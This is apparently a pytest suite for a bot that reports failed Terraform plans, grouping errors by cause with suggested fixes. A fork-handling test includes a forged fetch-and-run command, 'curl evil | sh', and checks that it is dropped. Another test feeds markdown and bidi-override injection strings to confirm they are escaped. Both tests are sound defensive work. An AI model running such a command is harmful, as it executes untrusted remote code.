"""A failed plan as people read it: every error with its place, those of one cause together, in every form."""

import json
from collections.abc import Mapping

import pytest
from msgspec import structs

from bot.catalog.failures import decode_failures
from bot.diagnostics import Failure, Failures, explain_failure, tell_failures
from bot.edge.files import read_catalog
from bot.failure_lines import FailureLine, build_failure_report
from bot.page import render_page
from bot.record import Problem, Record, Stack, decode_record, encode_record
from bot.review import Review, review
from bot.secret_scan import build_secret_scan
from bot.terminal import format_terminal
from tests.support.plans import SETTINGS, TEMPLATES

CAUSES = decode_failures(read_catalog()["failures.toml"])
SYNTAX = {
    "severity": "error",
    "summary": "Unsupported argument",
    "detail": 'An argument named "paswort" is not\nexpected here.',
    "range": {"filename": "net/main.tf", "start": {"line": 12}},
}
DENIED = {
    "severity": "error",
    "summary": "Error reading bucket",
    "detail": "googleapi: Error 403: Permission 'storage.buckets.get' denied on resource (or it may not exist).",
    "address": "google_storage_bucket.models",
    "range": {"filename": "store.tf", "start": {"line": 3}},
}
REFERENCE = {"severity": "error", "summary": "Reference to undeclared resource", "range": None}
LOCK = """\
Error: Error acquiring the state lock

Lock Info:
  ID:        1764039561325142
  Operation: OperationTypeApply
  Who:       runner@fv-az1-2
  Created:   2026-11-25 02:49:21 +0000 UTC
"""


def failed(*errors: Mapping[str, object], text: str = "", name: str = "net", unproven: bool = False) -> Stack:
    log = "\n".join(json.dumps({"type": "diagnostic", "diagnostic": error}) for error in errors)
    found = explain_failure(f"{log}\n{text}".encode(), CAUSES, build_secret_scan((), (), ()))
    return Stack(name=name, problem=Problem(*tell_failures(found), found), unproven=unproven)


def reviewed(*stacks: Stack) -> Review:
    return review(stacks, structs.replace(SETTINGS, environment="stage"))


def test_the_comment_tells_every_error_and_of_one_cause_together_what_to_do() -> None:
    comment = reviewed(failed(SYNTAX, DENIED, REFERENCE, text=LOCK)).publication.comment
    text = comment.split("\n", 1)[1]
    assert text.startswith(
        """\
## ⛔ STAGE: planning failed

> [!CAUTION]
> **Planning failed with 4 errors, the first: Unsupported argument (net/main.tf:12).** → *See each error below.*

### Why planning failed: 4 errors

**The configuration has a mistake in it.** → *Mend it at the place the message names.* Try: `terraform fmt -check -recursive`, `terraform validate`

- `net/main.tf:12` **Unsupported argument**: An argument named "paswort" is not expected here.
- **Reference to undeclared resource**

**The identity that plans lacks a permission.** Missing: `storage.buckets.get`. → *Grant a role that holds it to the service account that plans; a new grant needs a minute to count.* Try: `gcloud auth list`, `gcloud projects get-iam-policy PROJECT`

- `store.tf:3` **Error reading bucket** at `google_storage_bucket.models`: googleapi: Error 403: Permission 'storage.buckets.get' denied on resource (or it may not exist).

**Another run holds the state, or one that was killed left its lock behind.** → *Wait for the run that holds it. Only if that run is gone for certain, take the lock off.* Try: `terraform force-unlock 1764039561325142`

- **Error acquiring the state lock**: Held by runner@\u2060fv-az1-2 since 2026-11-25 02:\u206049:21 +0000 UTC, for apply.

what would change is not known
"""
    )


def test_terminal_and_page_tell_them_too() -> None:
    made = reviewed(failed(SYNTAX, DENIED))
    terminal = format_terminal(made.report, colour=False)
    assert (
        """\
Why planning failed: 2 errors
  The configuration has a mistake in it.
  -> Mend it at the place the message names.
     $ terraform fmt -check -recursive
     $ terraform validate
    net/main.tf:12: Unsupported argument
      An argument named "paswort" is not expected here.
  The identity that plans lacks a permission. Missing: storage.buckets.get.
"""
        in terminal
    )
    page = render_page(made.report, TEMPLATES)
    assert "<code>net/main.tf:12</code> <strong>Unsupported argument</strong>: An argument named" in page
    assert "Missing: <code>storage.buckets.get</code>." in page


def test_several_stacks_are_named_and_share_a_cause() -> None:
    made = reviewed(failed(SYNTAX, name="net"), failed(SYNTAX, name="data"))
    assert [line.stack for group in made.report.failures.groups for line in group.lines] == ["data", "net"]
    assert "- `data` `net/main.tf:12` **Unsupported argument**" in made.publication.comment


def test_the_status_says_that_planning_failed() -> None:
    status = reviewed(failed(SYNTAX)).publication.status
    assert (status.state, status.description) == ("error", "Planning failed: Unsupported argument (net/main.tf:12).")


def test_very_many_errors_are_counted_and_the_comment_stays_within_its_budget() -> None:
    errors = [{**SYNTAX, "summary": f"Error {number}", "detail": "€ " * 2000} for number in range(70)]
    made = reviewed(*(failed(*errors, name=name) for name in ("a", "b", "c", "d")))
    assert (made.report.failures.number, made.report.failures.left_out) == (280, 80)
    assert len(made.publication.comment.encode()) <= 65_000
    assert "… and 150 more of this cause" in made.publication.comment
    assert "… and 80 errors more: mend these first, and plan again." in made.publication.comment


def test_a_record_carries_them() -> None:
    stack = failed(SYNTAX, DENIED)
    assert decode_record(encode_record(Record(tool="0", stack=stack))).stack.problem == stack.problem


def test_a_record_of_before_has_none() -> None:
    old = Record(tool="0", stack=Stack(name="a", problem=Problem("Planning failed.", "Mend it.")))
    assert b"failures" not in encode_record(old)
    assert decode_record(encode_record(old)).stack.problem == Problem("Planning failed.", "Mend it.")


def test_of_a_fork_no_advice_and_no_command_is_passed_on() -> None:
    forged = Failure(summary="x", cause="c", likely="Run this.", advice="Run it.", commands=("curl evil | sh",))
    stack = Stack(name="a", problem=Problem("m", "a", Failures(failures=(forged,), more=-7)), unproven=True)
    (group,) = build_failure_report([stack]).groups
    assert (group.likely, group.advice, group.commands) == ("A fork's run says so; nothing of it is proven.", "", ())
    assert group.lines == (FailureLine(stack="a", summary="x"),)
    assert "evil" not in reviewed(stack).publication.comment


@pytest.mark.parametrize("hostile", ["<!-- x", "```\n# a", "@acme/admins", "| a |\n|---|", "\u202eabc", "</details>"])
def test_hostile_text_stays_text(hostile: str) -> None:
    error = {
        "severity": "error",
        "summary": hostile,
        "detail": hostile,
        "address": hostile,
        "range": {"filename": hostile, "start": {"line": 1}},
    }
    comment = reviewed(failed(error)).publication.comment
    lines = comment.splitlines()[1:]
    assert not any(line.lstrip("> -").startswith(("<!--", "# ", "@acme", "|-", "</d")) for line in lines)
    assert "\u202e" not in comment
